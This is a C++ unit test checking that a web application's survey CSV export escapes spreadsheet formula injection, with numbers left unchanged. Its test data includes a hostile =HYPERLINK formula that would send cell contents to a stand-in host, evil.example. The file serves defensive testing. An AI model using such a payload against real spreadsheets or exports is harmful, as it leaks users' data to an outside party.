// CSV downloads through the web application: text that a spreadsheet would run as a formula
// arrives as text (OWASP "CSV Injection"); numbers stay numbers.
#include <gtest/gtest.h>

#include "http/testing/test_world.hpp"

namespace clinaudit::http {
namespace {

using domain::Role;
using testing::TestWorld;

TEST(CsvExport, ASurveyLabelThatLooksLikeAFormulaIsExportedAsText) {
  TestWorld world;
  domain::Survey survey;
  survey.title = "Survey with a hostile label " + world.suffix();
  survey.wave = "2026";
  const std::string hostile = R"(=HYPERLINK("http://evil.example/?leak="&A1,"Click for details"))";
  survey.questions.push_back(domain::SurveyQuestion{
      0, "link", "Which applies?", domain::QuestionKind::single_choice, {hostile, "-1", "@home"}});
  const auto id = world.store().add_survey(survey, domain::Actor{std::nullopt, "test"});
  ASSERT_TRUE(id) << id.error().message;
  std::vector<domain::SurveyResponse> responses;
  for (const char* answer : {hostile.c_str(), "-1", "@home", "-1"}) {
    responses.push_back(domain::SurveyResponse{
        0, *id, domain::OrganisationType::acute, "North", "manager", {{"link", answer}}, std::nullopt});
  }
  ASSERT_TRUE(world.store().add_survey_responses(responses, domain::Actor{std::nullopt, "test"}));

  const Response csv =
      world.call("GET", "/surveys/" + std::to_string(id->value) + ".csv", &world.own().callers.at(Role::read_only));
  ASSERT_EQ(csv.status, 200) << csv.body;
  EXPECT_TRUE(contains(csv.content_type, "text/csv")) << csv.content_type;
  EXPECT_TRUE(contains(
      csv.body, "\nlink,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\",1,4,25,"))
      << csv.body;
  EXPECT_TRUE(contains(csv.body, "\nlink,\"'@home\",1,4,25,")) << csv.body;
  // "-1" is a plain number, as a spreadsheet reads it either way: it stays as it is.
  EXPECT_TRUE(contains(csv.body, "\nlink,-1,2,4,50,")) << csv.body;
  EXPECT_FALSE(contains(csv.body, ",=HYPERLINK")) << csv.body;
}

}  // namespace
}  // namespace clinaudit::http
